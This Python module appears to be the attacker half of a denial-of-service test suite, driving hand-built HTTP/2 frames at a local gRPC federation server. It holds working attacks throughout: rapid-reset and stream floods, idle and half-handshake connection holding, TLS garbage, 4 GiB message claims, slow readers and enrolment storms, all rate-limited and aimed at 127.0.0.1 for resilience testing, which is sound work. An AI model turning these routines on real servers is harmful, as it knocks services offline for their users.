"""The attackers of `hostile.py`: as much HTTP/2 as they need, by hand, since a library would keep its rules."""

import asyncio
import math
import os
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from quoron_protos.v1 import federation_pb2 as pb

MEMBERS = 16  # certificates
IDLE, HALVES = 4000, 8000  # connections that attackers try to hold
PATIENCE = 5.0  # seconds for a connection
MOST_BYTES = 50e6  # of a flood, a second: 400 Mbit/s
MOST_CONNECTIONS = 1000  # begun in a second
MOST_RESETS = 100_000  # a second; without bound, the processors are what is tried
MOST_GARBAGE = 200  # connections begun in a second that say what is no TLS
MOST_HANDSHAKES = 50  # whole ones begun in a second: each is milliseconds of a processor, on either side
MOST_CALLS = 200  # in a second, of those that are refused by their first bytes, and of messages by who reads nothing
CLIENTS, CONTROL = "/quoron.v1.ClientPlane", "/quoron.v1.ControlPlane"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, WINDOW = 0x0, 0x1, 0x3, 0x4, 0x8  # kinds of frames
RESETS = 64 * 500  # calls on one connection, then another
LARGE = 250_000  # bytes of a message that never comes whole


@dataclass
class Target:
    """Whom to attack, with which credential, and what was reached."""

    port: int
    folder: Path
    count: int = 0

    def context(self, member: int | None = None) -> ssl.SSLContext:
        """For connections without a certificate, or with that of a member."""
        made = ssl.create_default_context(cafile=self.folder / "authority.pem")
        made.set_alpn_protocols(["h2"])
        if member is not None:
            made.load_cert_chain(
                self.folder / f"member-{member}/certificate.pem", self.folder / f"member-{member}/key.pem"
            )
        return made


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def fields(path: str) -> bytes:
    """Of a call, with a token that is none."""
    said = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "127.0.0.1", "te": "trailers"}
    said |= {"content-type": "application/grpc", "authorization": "Bearer quoron_guess"}
    pairs = [(name.encode(), value.encode()) for name, value in said.items()]
    return b"".join(b"\0%c%s%c%s" % (len(name), name, len(value), value) for name, value in pairs)


@dataclass
class Http2:
    """One connection."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    stream: int = -1
    first_window: int = 65535
    windows: dict[int, int] = field(default_factory=lambda: {0: 65535})  # of the connection, and of its streams

    def frame(self, kind: int, flags: int, stream: int, payload: bytes = b"") -> None:
        """Send one."""
        self.writer.write(frame(kind, flags, stream, payload))

    def call(self, path: str, *, whole: bool) -> int:
        """Begin a call, of which nothing follows if it is `whole`; its stream."""
        self.stream += 2
        self.frame(HEADERS, 0x4 | whole, self.stream, fields(path))
        self.windows[self.stream] = self.first_window
        return self.stream

    async def frames(self) -> AsyncIterator[tuple[int, int, int, bytes]]:
        """What comes: kind, flags, stream and payload."""
        while True:
            head = await self.reader.readexactly(9)
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big") & 0x7FFFFFFF
            payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
            if kind == SETTINGS and not flags:
                self.frame(SETTINGS, 1, 0)
                given = {payload[at + 1]: payload[at + 2 : at + 6] for at in range(0, len(payload), 6)}
                self.first_window = int.from_bytes(given.get(4, self.first_window.to_bytes(4, "big")), "big")
            if kind == WINDOW and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            yield kind, flags, stream, payload

    def push(self, stream: int, left: int) -> int:
        """As much of a message as the windows take now; how much is left of it."""
        while left and (size := min(left, 16384, self.windows[0], self.windows.get(stream, 0))) > 0:
            begins = b"\0" + LARGE.to_bytes(4, "big") if left == LARGE else b""
            self.frame(DATA, 0, stream, (begins + bytes(size))[:size])
            self.windows[0] -= size
            self.windows[stream] -= size
            left -= size
        return left


@asynccontextmanager
async def http2(port: int, context: ssl.SSLContext) -> AsyncIterator[Http2]:
    async with asyncio.timeout(PATIENCE):
        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
    try:
        made = Http2(reader, writer)
        writer.write(PREFACE)
        made.frame(SETTINGS, 0, 0)
        yield made
    finally:
        writer.transport.abort()


async def again_and_again(attack: Callable[[], Awaitable[None]]) -> None:
    while True:
        with suppress(OSError, EOFError, ssl.SSLError, TimeoutError):
            await attack()
        await asyncio.sleep(0.1)


async def several(number: int, attack: Callable[[int], Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for each in range(number):
            group.create_task(again_and_again(lambda each=each: attack(each)))


def calling(path: str, connections: int, streams: int, members: int) -> Callable[[Target], Awaitable[None]]:
    """Whole calls without end: the next on a connection begins when one is over. Counts calls."""

    async def attack(target: Target) -> None:
        contexts = [target.context(each) for each in range(members)] or [target.context()]

        async def one(number: int) -> None:
            async with http2(target.port, contexts[number % len(contexts)]) as connection:
                for _ in range(streams):
                    stream = connection.call(path, whole=not members)
                    if members:
                        enrol(connection, stream)
                async for kind, flags, _, _ in connection.frames():
                    if kind == RESET or (kind == HEADERS and flags & 1):
                        target.count += 1
                        stream = connection.call(path, whole=not members)
                        if members:
                            enrol(connection, stream)

        await several(connections, one)

    return attack


def enrol(connection: Http2, stream: int) -> None:
    message = pb.EnrolRequest(protocol=2).SerializeToString()
    connection.frame(DATA, 1, stream, b"\0" + len(message).to_bytes(4, "big") + message)


def flooding(path: str, connections: int, streams: int, member: int | None) -> Callable[[Target], Awaitable[None]]:
    """Large messages in many streams, as far as the windows go, that never come to their end. Counts bytes sent."""

    async def attack(target: Target) -> None:
        context = target.context(member)
        began, clock = 0.0, asyncio.get_running_loop().time
        if member is not None:  # whoever has not enrolled is told so at once
            async with http2(target.port, context) as connection:
                enrol(connection, connection.call(f"{CLIENTS}/Enrol", whole=False))
                async for kind, flags, _, _ in connection.frames():
                    if kind == HEADERS and flags & 1:
                        break

        async def one(_: int) -> None:
            async with http2(target.port, context) as connection:
                left = {connection.call(path, whole=False): LARGE for _ in range(streams)}
                async for kind, flags, stream, _ in connection.frames():
                    if kind == RESET or (kind == HEADERS and flags & 1):
                        left.pop(stream, None)
                        left[connection.call(path, whole=False)] = LARGE
                    for each in tuple(left):
                        before = left[each]
                        left[each] = connection.push(each, max(before, 1)) if before > 1 else before
                        target.count += before - left[each]
                    await connection.writer.drain()
                    await asyncio.sleep(began + target.count / MOST_BYTES - clock())

        began = clock()
        await several(connections, one)

    return attack


def resetting(path: str, connections: int, most: float, member: int | None) -> Callable[[Target], Awaitable[None]]:
    """Calls that are taken back as soon as they have begun, at most so many a second. Counts calls."""

    async def attack(target: Target) -> None:
        context, clock = target.context(member), asyncio.get_running_loop().time
        prepared = [taken_back(path, first) for first in range(1, 2 * RESETS, 2 * 64)]

        async def one(_: int) -> None:
            async with http2(target.port, context) as connection:
                reading = asyncio.create_task(connection.reader.read())  # to the end, which comes with the connection's
                began = clock()
                for number, calls in enumerate(prepared):
                    await asyncio.sleep(began + 64 * connections * number / most - clock())
                    connection.writer.write(calls)
                    await connection.writer.drain()
                    target.count += 64
                    if reading.done() or connection.writer.is_closing():
                        break
                reading.cancel()

        await several(connections, one)

    return attack


def taken_back(path: str, first: int) -> bytes:
    """64 calls, from a stream on."""
    over = (8).to_bytes(4, "big")
    calls = range(first, first + 2 * 64, 2)
    return b"".join(frame(HEADERS, 0x5, each, fields(path)) + frame(RESET, 0, each, over) for each in calls)


def holding(number: int, said: str, member: int | None = None) -> Callable[[Target], Awaitable[None]]:
    """Connections that say nothing, half a hello's exchange, or go idle after it. Counts connections made."""

    async def attack(target: Target) -> None:
        context = target.context(member)
        hello = first_flight(target.context())
        taking, clock = asyncio.Semaphore(64), asyncio.get_running_loop().time
        began = clock()

        async def one(_: int) -> None:
            async with taking:
                await asyncio.sleep(began + target.count / MOST_CONNECTIONS - clock())
                if said == "all":
                    async with asyncio.timeout(PATIENCE):
                        reader, writer = await asyncio.open_connection("127.0.0.1", target.port, ssl=context)
                    writer.write(PREFACE + bytes(3) + bytes((SETTINGS,)) + bytes(5))
                else:
                    reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
                    writer.write(hello if said == "half" else b"")
                target.count += 1
            try:
                while await reader.read(1 << 16):
                    pass
            finally:
                writer.transport.abort()

        await several(number, one)

    return attack


def garbage(size: int) -> Callable[[Target], Awaitable[None]]:
    """Connections that say what is no TLS, and begin again once they are ended. Counts connections."""

    async def attack(target: Target) -> None:
        began, clock = (now := asyncio.get_running_loop().time)(), now

        async def one(_: int) -> None:
            await asyncio.sleep(began + target.count / MOST_GARBAGE - clock())
            target.count += 1
            reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
            try:
                writer.write(os.urandom(size))
                while await reader.read(1 << 16):
                    pass
            finally:
                writer.transport.abort()

        await several(128, one)

    return attack


def strangers() -> Callable[[Target], Awaitable[None]]:
    """Whole handshakes with a certificate of another authority, or none. Counts connections."""

    async def attack(target: Target) -> None:
        context, (began, clock) = target.context(), ((now := asyncio.get_running_loop().time)(), now)

        async def one(_: int) -> None:
            await asyncio.sleep(began + target.count / MOST_HANDSHAKES - clock())
            target.count += 1
            async with http2(target.port, context) as connection, asyncio.timeout(PATIENCE):
                await connection.reader.read(1)  # the end, or what the sink says: as many a second from either

        await several(32, one)

    return attack


def oversized(path: str, member: int | None) -> Callable[[Target], Awaitable[None]]:
    """Calls whose message says that it is of 4 GiB. Counts calls."""

    async def attack(target: Target) -> None:
        context, (began, clock) = target.context(member), ((now := asyncio.get_running_loop().time)(), now)

        async def one(_: int) -> None:
            async with http2(target.port, context) as connection:
                stream = connection.call(path, whole=False)
                connection.frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + bytes(9))
                async for kind, flags, _, _ in connection.frames():
                    if kind == RESET or (kind == HEADERS and flags & 1):
                        target.count += 1
                        await asyncio.sleep(began + target.count / MOST_CALLS - clock())
                        stream = connection.call(path, whole=False)
                        connection.frame(DATA, 0, stream, b"\0\xff\xff\xff\xff" + bytes(9))

        await several(4, one)

    return attack


def unread(members: int) -> Callable[[Target], Awaitable[None]]:
    """Conversations of members who ask for receipts and take none: their window stays shut. Counts messages."""

    async def attack(target: Target) -> None:
        contexts = [target.context(each) for each in range(members)]
        said = [pb.ClientMessage(hello=pb.Hello(protocol=2)), pb.ClientMessage(answer=pb.Answer(run="none"))]
        hello, answer = (b"\0" + len(each := one.SerializeToString()).to_bytes(4, "big") + each for one in said)
        began, clock = (now := asyncio.get_running_loop().time)(), now

        async def one(number: int) -> None:
            async with http2(target.port, contexts[number]) as connection:
                enrol(connection, connection.call(f"{CLIENTS}/Enrol", whole=False))
                async for kind, flags, _, _ in connection.frames():
                    if kind == HEADERS and flags & 1:
                        break
                connection.frame(SETTINGS, 0, 0, b"\0\4" + bytes(4))  # streams may send nothing
                stream = connection.call(f"{CLIENTS}/Work", whole=False)
                connection.frame(DATA, 0, stream, hello)
                reading = asyncio.create_task(connection.reader.read())
                while not reading.done() and not connection.writer.is_closing():
                    await asyncio.sleep(began + target.count / MOST_CALLS - clock())
                    connection.frame(DATA, 0, stream, answer)
                    await connection.writer.drain()
                    target.count += 1
                reading.cancel()

        await several(members, one)

    return attack


def first_flight(context: ssl.SSLContext) -> bytes:
    heard, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(heard, said, server_hostname="127.0.0.1").do_handshake()
    return said.read()


# Their rates are declared above, so that a busy machine need not be protected from them by a low priority.
DECLARED = {"garbage", "handshakes", "oversized", "slow readers"}
# name: the port, what its attacker does, and what it counts
ATTACKS: dict[str, tuple[str, Callable[[Target], Awaitable[None]], str]] = {
    "bogus tokens, control": ("control", calling(f"{CONTROL}/Call", 32, 4, 0), "calls"),
    "garbage, clients": ("clients", garbage(4096), "connections"),
    "garbage, control": ("control", garbage(4096), "connections"),
    "handshakes, clients": ("clients", strangers(), "connections"),
    "oversized, member": ("clients", oversized(f"{CLIENTS}/Work", 0), "calls"),
    "oversized, control": ("control", oversized(f"{CONTROL}/Call", None), "calls"),
    "slow readers, members": ("clients", unread(MEMBERS), "messages"),
    "stream flood, control": ("control", flooding(f"{CONTROL}/Call", 3, 200, None), "bytes"),
    "stream flood, member": ("clients", flooding(f"{CLIENTS}/Work", 64, 2, 0), "bytes"),
    "half handshakes, clients": ("clients", holding(HALVES, "half"), "connections"),
    "half handshakes, control": ("control", holding(HALVES, "half"), "connections"),
    "rapid resets, control": ("control", resetting(f"{CONTROL}/Call", 8, MOST_RESETS, None), "calls"),
    "rapid resets, member": ("clients", resetting(f"{CLIENTS}/Enrol", 8, MOST_RESETS, 0), "calls"),
    "resets without bound": ("control", resetting(f"{CONTROL}/Call", 8, math.inf, None), "calls"),
    "4,000 idle, clients": ("clients", holding(IDLE, "nothing"), "connections"),
    "4,000 idle, control": ("control", holding(IDLE, "nothing"), "connections"),
    "4,000 idle, member": ("clients", holding(IDLE, "all", 0), "connections"),
    "Enrol storm, member": ("clients", calling(f"{CLIENTS}/Enrol", 32, 2, 1), "calls"),
    "Enrol storm, members": ("clients", calling(f"{CLIENTS}/Enrol", 32, 2, MEMBERS), "calls"),
}
